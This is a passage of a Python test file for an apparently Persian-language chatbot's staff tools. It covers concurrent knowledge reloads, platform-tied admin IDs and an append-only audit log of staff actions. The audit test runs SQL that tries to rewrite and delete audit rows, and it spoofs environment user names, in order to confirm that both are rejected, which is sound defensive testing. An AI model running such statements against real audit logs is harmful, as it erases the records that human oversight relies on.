# 13. Two admins reloading at once
# --------------------------------------------------------------------------------------------------


async def test_the_newest_reload_wins_even_when_an_older_one_finishes_last(
    dialogue: Dialogue, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    older, newer = tmp_path / "older", tmp_path / "newer"
    shutil.copytree(KNOWLEDGE, older)
    shutil.copytree(KNOWLEDGE, newer)
    entered, release = threading.Event(), threading.Event()
    real_check = staff_dialogue.check_knowledge

    def slow_for_the_older(directory: Path):
        if Path(directory) == older:
            entered.set()
            release.wait(10)
        return real_check(directory)

    monkeypatch.setattr(staff_dialogue, "check_knowledge", slow_for_the_older)
    first = asyncio.create_task(staff_dialogue.reload_knowledge(dialogue, older))
    await asyncio.to_thread(entered.wait, 10)  # the first admin's reload is reading the files...
    second = await staff_dialogue.reload_knowledge(dialogue, newer)  # ...when a second admin reloads
    assert render_plain(second.text).startswith("✅")
    release.set()
    first_reply = await first
    assert dialogue.knowledge.source == newer  # the newest reload's knowledge is served
    assert render_plain(first_reply.text) == T.ADMIN_RELOAD_SUPERSEDED


# --------------------------------------------------------------------------------------------------
# 14. BOT_ADMIN_IDS tied to a platform
# --------------------------------------------------------------------------------------------------


def test_admin_ids_name_their_platform_and_plain_ids_mean_the_configured_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BOT_ADMIN_IDS", "telegram:123, bale:456 789")
    telegram = Settings(_env_file=None, platform="telegram")
    assert telegram.is_admin("telegram", 123) and not telegram.is_admin("bale", 123)
    assert telegram.is_admin("bale", 456) and not telegram.is_admin("telegram", 456)
    assert telegram.is_admin("telegram", 789) and not telegram.is_admin("bale", 789)
    bale = Settings(_env_file=None, platform="bale")
    assert bale.is_admin("bale", 789) and not bale.is_admin("telegram", 789)
    assert Settings(_env_file=None, admin_ids=frozenset({42})).is_admin("telegram", 42)  # as before


@pytest.mark.parametrize("value", ["whatsapp:1", "telegram:abc", "12x"])
def test_a_mistyped_admin_id_names_the_setting(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.setenv("BOT_ADMIN_IDS", value)
    with pytest.raises(ValueError, match="BOT_ADMIN_IDS"):
        Settings(_env_file=None)


async def test_a_telegram_admin_is_nobody_on_bale(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BOT_ADMIN_IDS", f"telegram:{ADMIN}")
    async with await SqliteStore.open(tmp_path / "bot.db") as db:
        on_bale = Dialogue(Settings(_env_file=None, platform="bale"), db, engine())
        on_telegram = Dialogue(Settings(_env_file=None, platform="telegram"), db, engine())
        assert (await say(on_bale, "/stats", user=ADMIN)).texts() == [T.UNKNOWN_COMMAND]  # someone else's account
        assert (await say(on_telegram, "/stats", user=ADMIN)).texts()[0].startswith("📊")


# --------------------------------------------------------------------------------------------------
# 16. Staff reads and changes of personal data are audited, append-only
# --------------------------------------------------------------------------------------------------


def test_staff_reads_exports_and_status_changes_are_audited_append_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = tmp_path / "bot.db"

    async def seed() -> str:
        async with await SqliteStore.open(database) as db:
            created = await db.requests.create(KARA, "telegram", 1, 1, REAL_CODE, MOBILE, {"full_name": "زهرا کریمی"})
            return created.tracking_code

    code = asyncio.run(seed())
    me = pwd.getpwuid(os.getuid()).pw_name
    monkeypatch.setenv("USER", "someone-else")  # the OS account is recorded, not what the environment claims
    monkeypatch.setenv("LOGNAME", "someone-else")
    for args in (["requests", "list"], ["logs"], ["export", "requests", "--out", str(tmp_path / "masked.csv")],
                 ["requests", "show", code],
                 ["export", "requests", "--out", str(tmp_path / "p.csv"), "--with-personal-data"],
                 ["requests", "set-status", code, "under_review", "--note", "بررسی"]):
        status, _, err = run_cli(monkeypatch, capsys, database, *args)
        assert status == 0, err

    conn = sqlite3.connect(database)
    try:
        rows = conn.execute("SELECT os_user, action, target FROM staff_audit ORDER BY id").fetchall()
        assert rows == [(me, "requests show", code),
                        (me, "export requests --with-personal-data", str(tmp_path / "p.csv")),
                        (me, "requests set-status", code)]
        for sql in ("UPDATE staff_audit SET os_user = 'nobody'", "DELETE FROM staff_audit"):
            with pytest.raises(sqlite3.IntegrityError, match="append-only"):
                conn.execute(sql)
        assert conn.execute("SELECT COUNT(*) FROM staff_audit").fetchone() == (3,)
    finally:
        conn.close()

    status, out, err = run_cli(monkeypatch, capsys, database, "audit", "--limit", "2")
    assert status == 0, err
    lines = out.splitlines()
    assert len(lines) == 2 and "requests set-status" in lines[0] and "--with-personal-data" in lines[1]
    today = jalali_date(dt.datetime.now(dt.UTC))
    assert all(line.startswith(today) and me in line for line in lines)
